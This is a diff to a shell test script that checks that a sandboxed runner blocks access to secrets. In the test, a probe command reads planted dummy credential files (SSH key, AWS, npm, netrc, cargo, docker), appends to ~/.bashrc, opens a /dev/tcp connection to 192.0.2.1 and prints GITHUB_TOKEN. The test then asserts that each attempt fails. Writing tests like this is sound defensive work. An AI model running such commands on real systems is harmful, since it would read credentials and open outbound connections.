@@ -15,8 +15,10 @@ if have rustup || [ -d "$HOME/.rustup" ]; then export RUSTUP_HOME=${RUSTUP_HOME:
 unset DOCKER_HOST CONTAINER_HOST SSH_AUTH_SOCK CARGO_HOME GOPATH GOCACHE GOFLAGS GOMODCACHE npm_config_cache
 export HOME=$tmp/home TMPDIR=$tmp/tmp GIT_CONFIG_NOSYSTEM=1 GO111MODULE=on GITHUB_TOKEN=secret
 work=$tmp/work
-mkdir -p "$HOME/.ssh" "$HOME/.aws" "$TMPDIR" "$work"
-for key in .ssh/id_ed25519 .aws/credentials .npmrc .git-credentials; do echo PRIVATE >"$HOME/$key"; done
+mkdir -p "$HOME"/{.ssh,.aws,.cargo,.docker} "$TMPDIR" "$work"
+# What each tool would like to read and has to do without.
+secrets=(.ssh/id_ed25519 .aws/credentials .npmrc .pypirc .netrc .git-credentials .cargo/credentials.toml .docker/config.json)
+for secret in "${secrets[@]}"; do echo PRIVATE >"$HOME/$secret"; done
 echo old >"$HOME/.bashrc"
 git init -q "$work" 2>/dev/null
 
@@ -44,10 +46,10 @@ closed()
 {
 	local presets=$1 path got
 	shift
-	got=$(with "$presets" bash -c 'for f in .ssh/id_ed25519 .aws/credentials .npmrc .git-credentials; do cat ~/$f; done
+	got=$(with "$presets" bash -c 'for f in '"${secrets[*]}"'; do cat ~/$f; done
 		echo evil >>~/.bashrc; exec 3<>/dev/tcp/192.0.2.1/443; echo "token: $GITHUB_TOKEN"
 		for f; do mkdir -p "${f%/*}"; echo evil >"$f"; done 2>/dev/null' - "$@" | grep -v ' /dev/tcp/')
-	is '6 0' "$runner: $presets opens no secret, no start-up file and no other address" \
+	is "$((${#secrets[@]} + 2)) 0" "$runner: $presets opens no secret, no start-up file and no other address" \
 		"$(grep -c 'ermission denied$' <<<"$got") $(grep -c PRIVATE <<<"$got")"
 	is old "$runner: $presets: ~/.bashrc is as it was" "$(cat "$HOME/.bashrc")"
 	like 'token: ($|[^s])' "$runner: $presets lets no token into the environment" "$got"
